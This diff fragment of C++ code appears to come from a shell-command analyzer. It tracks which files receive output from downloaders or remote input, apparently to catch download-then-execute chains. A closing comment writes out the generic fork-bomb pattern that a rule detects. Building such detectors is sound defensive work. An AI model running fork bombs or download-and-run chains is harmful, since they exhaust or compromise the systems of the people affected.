+        const QString name = CommandUnwrapper::programName(invocation.words.first());
+        downloads = downloads || isDownloader(name);
+        if (name == u"tee") {
+            downloads = downloads || stdinSources(index).remote;
+            targets += parseArgs(invocation.words).operands;
+        }
+    }
+    if (!downloads)
+        return;
+    for (const ShellRedirection &redirection : m_commands.at(index).redirections) {
+        if (redirection.writesFile() && (redirection.fd < 0 || redirection.fd == 1))
+            targets.append(redirection.target);
+    }
+    for (const QString &target : std::as_const(targets))
+        m_downloads.insert(CommandUnwrapper::programName(target));
 }
 
 // name() { name | name & }; name — a function that starts itself in a pipe or the background.
